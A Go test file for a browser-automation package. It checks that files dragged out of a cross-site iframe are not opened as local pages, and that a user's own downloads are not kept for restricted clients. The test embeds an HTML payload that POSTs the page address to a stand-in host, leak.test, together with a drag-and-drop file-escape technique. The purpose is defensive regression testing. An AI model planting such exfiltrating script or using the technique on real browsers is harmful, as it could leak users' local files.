package browser

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"warren/testnet"
)

// draggingPage drags what its frame's script has prepared, and reports when the drag begins.
const draggingPage = `<title>dragging</title><body style="margin: 0"><div draggable=true style="width: 200px; height: ` +
	`200px">drag</div><input type=file><script>
	document.ondragstart = e => { add(e.dataTransfer); document.title = "began" }
</script>`

// runsAsFile reports to the test's site, and would make Chrome download any file of the machine.
const runsAsFile = `<title>it ran</title><script>fetch("http://leak.test/ran", {method: "POST", mode: "no-cors", body: ` +
	`location.href})</script>`

// dragSite serves a page with a frame of another site, which drags, and counts files that ran as pages.
func dragSite(p *profile) (ran *atomic.Int32) {
	ran = &atomic.Int32{}
	page := func(path, html string) {
		p.site.Mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, html)
		})
	}
	page("/outer", `<title>outer</title><body style="margin: 0"><iframe src="http://b.test/inner" style="border: 0; width: 400px; `+
		`height: 400px"></iframe>`)
	page("/inner", draggingPage)
	p.site.Mux.HandleFunc("/ran", func(http.ResponseWriter, *http.Request) { ran.Add(1) })
	return ran
}

// TestSharedFilesAreNoPages: a file that a client gave to a page, or that a page stores, is not opened as a page when it is dropped, with
// windows neither. Its scripts would run with a file's rights.
func TestSharedFilesAreNoPages(t *testing.T) {
	for _, folder := range []string{"plain", "a b%41ü#?", "[odd]"} {
		t.Run(folder, func(t *testing.T) {
			t.Parallel()
			p := newProfile(t)
			ran := dragSite(p)
			spec := p.spec()
			spec.Headless = false
			spec.ExtraEnv = []string{"DISPLAY=" + testnet.Display(t), "WAYLAND_DISPLAY=", "XDG_SESSION_TYPE=x11"}
			spec.FilesDir = filepath.Join(t.TempDir(), folder, "files")
			own := filepath.Join(spec.FilesDir, "uploads", "own.html")
			if err := os.MkdirAll(filepath.Dir(own), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(own, []byte(runsAsFile), 0o600); err != nil {
				t.Fatal(err)
			}
			b := p.open(spec)
			if err := b.Start(t.Context()); err != nil {
				t.Fatal(err)
			}
			c := dial(t, serveGatewayTo(t, b, false)+"/")
			for way, ready := range map[string]string{
				"handed": `add = data => data.items.add(document.querySelector("input").files[0])`,
				"kept": `new Promise((yes, no) => webkitRequestFileSystem(TEMPORARY, 1e6, fs => fs.root.getFile("kept.html", {create: ` +
					`true}, entry => entry.createWriter(w => {
					w.onwriteend = () => entry.file(f => { add = data => data.items.add(f); yes() }, no);
					w.write(new Blob([` + "`" + runsAsFile + "`" + `])) }, no), no), no))`,
			} {
				opened := c.drag(b, own, ready)
				if !strings.HasPrefix(opened, "chrome-error:") {
					t.Errorf("%s: the page that was opened is %s", way, opened)
				}
			}
			if n := ran.Load(); n > 0 {
				t.Errorf("%d files ran as pages", n)
			}
		})
	}
}

// drag makes the frame drag what ready prepares onto the surrounding page, and returns the address of the tab that opens.
func (c *tester) drag(b *Browser, file, ready string) (document string) {
	c.t.Helper()
	_, session := c.openTab("http://a.test/outer")
	c.call(session, "Target.setAutoAttach", map[string]any{"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true})
	inner := ""
	for inner == "" {
		if m := c.event("Target.attachedToTarget"); strings.Contains(string(m.Params), `"iframe"`) {
			inner = field(c.t, m.Params, "sessionId")
		}
	}
	c.becomes(inner, "document.title", `"dragging"`)
	var input struct{ Result struct{ ObjectID string } }
	if err := json.Unmarshal(c.call(inner, "Runtime.evaluate", map[string]any{"expression": `document.querySelector("input")`}),
		&input); err != nil {
		c.t.Fatal(err)
	}
	c.call(inner, "DOM.setFileInputFiles", map[string]any{"objectId": input.Result.ObjectID, "files": []string{file}})
	c.call(inner, "Runtime.evaluate", map[string]any{"expression": ready, "awaitPromise": true})
	mouse := func(kind string, x, y, buttons int) {
		c.call(session, "Input.dispatchMouseEvent",
			map[string]any{"type": kind, "x": x, "y": y, "button": "left", "buttons": buttons, "clickCount": 1})
	}
	testnet.Eventually(c.t, "the drag begins", func() bool { // once the frame's picture can be hit
		mouse("mouseReleased", 50, 50, 0)
		mouse("mousePressed", 50, 50, 1)
		for x := 60; x <= 600; x += 60 {
			mouse("mouseMoved", x, 60, 1)
		}
		return c.value(inner, "document.title") == `"began"`
	})
	mouse("mouseReleased", 600, 60, 0)
	testnet.Eventually(c.t, "a tab for what was dragged", func() bool {
		targets, err := b.mux.targets(c.t.Context())
		if err != nil {
			return false
		}
		for _, target := range targets {
			tab, known := b.mux.controller.page(target.TargetID)
			if isFile(target.URL) && known && b.mux.controller.evaluate(c.t.Context(), tab, "location.href", &document) == nil &&
				document != BlankPage {
				b.closeAndWait(target.TargetID)
				return true
			}
		}
		return false
	})
	return document
}

// TestPersonsFilesAreNotKept: a file of this machine that a person downloads is not kept for restricted clients.
func TestPersonsFilesAreNotKept(t *testing.T) {
	p := newProfile(t)
	p.site.Mux.HandleFunc("/later.zip", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/zip")
		_, _ = io.WriteString(w, "later")
	})
	spec := p.spec()
	spec.Headless = false
	spec.ExtraEnv = []string{"DISPLAY=" + testnet.Display(t), "WAYLAND_DISPLAY=", "XDG_SESSION_TYPE=x11"}
	b := p.open(spec)
	if err := b.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	dial(t, serveGatewayTo(t, b, false)+"/").call("", "Browser.getVersion", nil)
	file := filepath.Join(t.TempDir(), "theirs.zip")
	if err := os.WriteFile(file, []byte("theirs"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, address := range []string{"file://" + file, "http://a.test/later.zip"} {
		own := b.mux.controller.openPages()[0]
		_ = b.mux.call(t.Context(), own.Session, "Page.navigate", map[string]any{"url": address}, nil) // aborted, since it is a download
	}
	testnet.Eventually(t, "the site's file is there", func() bool {
		all := b.Downloads()
		return len(all) > 0 && all[len(all)-1].State == DownloadComplete && all[len(all)-1].URL == "http://a.test/later.zip"
	})
	if all := b.Downloads(); len(all) != 1 {
		t.Errorf("kept are %+v", all)
	}
	there, err := os.ReadDir(filepath.Join(b.filesDir(), "downloads"))
	if err != nil || len(there) != 1 {
		t.Errorf("in the folder lie %v, %v", there, err)
	}
}
